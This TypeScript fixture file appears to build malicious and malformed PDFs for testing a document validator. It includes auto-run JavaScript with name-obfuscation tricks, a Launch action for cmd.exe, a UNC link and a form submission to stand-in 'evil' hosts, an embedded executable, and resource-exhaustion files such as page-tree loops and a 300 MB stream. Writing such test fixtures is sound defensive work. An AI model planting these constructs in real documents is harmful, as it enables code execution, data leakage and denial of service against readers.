import { deflateSync } from 'node:zlib';

/** A small honest file, and what an attack puts into it. */
export function pdfOf(...objects: readonly string[]): Buffer {
  const body = objects.map((object, i) => `${String(i + 1)} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.from(
    `%PDF-1.7\n${body}trailer\n<< /Root 1 0 R /Size ${String(objects.length + 1)} >>\n%%EOF\n`,
    'latin1',
  );
}

/** One that is padded to a length. */
export function pdfOfLength(length: number): Buffer {
  const own = pdfOf('<< /Type /Catalog >>');
  return Buffer.concat([own, Buffer.alloc(length - own.length, 0x20)]);
}

/** An object stream that holds this text, under the name it is usually found by. */
function objectStream(inside: string | Buffer, { name = 'ObjStm', filter = '/FlateDecode' } = {}): Buffer {
  const packed = deflateSync(typeof inside === 'string' ? `9 0 ${inside}` : inside, { level: 9 });
  const head = `1 0 obj\n<< /Type /${name} /N 1 /First 4 /Filter ${filter} /Length ${String(packed.length)} >>\nstream\n`;
  return Buffer.concat([Buffer.from(`%PDF-1.7\n${head}`), packed, Buffer.from('\nendstream\nendobj\n%%EOF\n')]);
}

/** Files that act by themselves when somebody opens them. */
export const ACTIVE_PDFS: Readonly<Record<string, () => Buffer>> = {
  'a script when it is opened': () => pdfOf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
  'a script under a spelt name': () => pdfOf('<< /OpenAction << /S /#4AavaScrip#74 /JS (1) >> >>'),
  'a script in an object stream': () => objectStream('<< /OpenAction << /S /JavaScript /JS (1) >> >>'),
  'a script in an object stream of a spelt name': () => objectStream('<< /S /JavaScript >>', { name: 'Obj#53tm' }),
  'a program that it starts': () => pdfOf('<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>'),
  'a way into another file': () => pdfOf('<< /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >> >>'),
  'an embedded file': () =>
    pdfOf('<< /Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >> >>', '<< /Type /Filespec >>'),
  'a form of the XML kind': () => pdfOf('<< /AcroForm << /XFA [(template) 2 0 R] >> >>', '<< >>'),
  'a form that sends itself away': () => pdfOf('<< /AA << /C << /S /SubmitForm /F (http://evil.example) >> >> >>'),
};

/** Files on which a reader works for ever, or into which nobody can look. */
export const ENDLESS_PDFS: Readonly<Record<string, () => Buffer>> = {
  'tables in a ring': () => Buffer.from('%PDF-1.7\nxref\n0 1\ntrailer\n<< /Size 1 /Prev 9 >>\nstartxref\n9\n%%EOF\n'),
  'a billion pages': () => pdfOf('<< /Pages 2 0 R >>', '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>'),
  'pages fifty thousand levels deep': () =>
    pdfOf(...Array.from({ length: 50_000 }, (_, i) => `<< /Type /Pages /Count 1 /Kids [${String(i + 2)} 0 R] >>`)),
  'pages in a ring': () => pdfOf('<< /Pages 2 0 R >>', '<< /Kids [3 0 R] >>', '<< /Kids [2 0 R] >>'),
  'an object stream of 300 MB': () => objectStream(Buffer.alloc(300 << 20)),
  'an object stream packed twice': () => objectStream('<< >>', { filter: '[/FlateDecode /FlateDecode]' }),
  'a million open arrays': () => pdfOf('['.repeat(1_000_000)),
  'a password': () =>
    Buffer.from('%PDF-1.7\ntrailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard /V 2 >> >>\n%%EOF\n'),
};
